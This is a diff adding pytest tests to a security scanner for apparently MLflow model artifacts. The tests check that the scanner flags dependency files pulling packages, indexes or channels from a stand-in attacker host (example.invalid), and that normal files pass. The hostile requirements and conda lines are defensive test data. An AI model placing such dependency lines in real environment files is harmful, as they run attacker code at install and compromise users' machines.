@@ -213,3 +213,34 @@ def test_build_on_an_allowed_class_itself_blocks(tmp_path):
     findings = scan_path(path)
     assert any(f.id == "model.artifact.malformed" and "BUILD on sklearn._loss.link.IdentityLink" in f.message
                for f in findings), findings
+
+
+@pytest.mark.parametrize(("name", "text"), [
+    ("requirements.txt", "mlflow==3.1.0\n-e git+https://example.invalid/evil.git#egg=evil\n"),
+    ("requirements.txt", "--extra-index-url https://example.invalid/simple\nscikit-learn==1.9.1\n"),
+    ("requirements.txt", "evil @ https://example.invalid/evil-1.0.tar.gz\n"),
+    ("requirements.txt", "./evil_pkg\n"),
+    ("python_env.yaml", "python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n- -r other.txt\n"),
+    ("conda.yaml", "channels:\n- https://example.invalid/conda\ndependencies:\n- python=3.11.7\n"),
+    ("conda.yaml", "dependencies:\n- python=3.11.7\n- pip:\n  - git+https://example.invalid/evil.git\n"),
+])
+def test_environment_files_that_install_attacker_code_block(tmp_path, name, text):
+    """mlflow models serve (virtualenv/conda env managers) installs these: a source distribution from an
+    attacker's URL, index or path runs its build code. Not run here (no network); read from MLflow's docs."""
+    model = tmp_path / "model"
+    model.mkdir()
+    (model / name).write_text(text)
+    findings = scan_path(model)
+    assert any(f.id == "model.artifact.code_at_install" for f in findings), findings
+
+
+def test_environment_files_mlflow_writes_pass(tmp_path):
+    model = tmp_path / "model"
+    model.mkdir()
+    (model / "requirements.txt").write_text("mlflow==3.1.0\nscikit-learn==1.9.1\n"
+                                            "cloudpickle>=3 ; python_version >= '3.9'\n")
+    (model / "python_env.yaml").write_text("python: 3.11.7\nbuild_dependencies:\n- pip\ndependencies:\n"
+                                           "- -r requirements.txt\n")
+    (model / "conda.yaml").write_text("channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=24.0\n"
+                                      "- pip:\n  - scikit-learn==1.9.1\nname: mlflow-env\n")
+    assert scan_path(model) == []
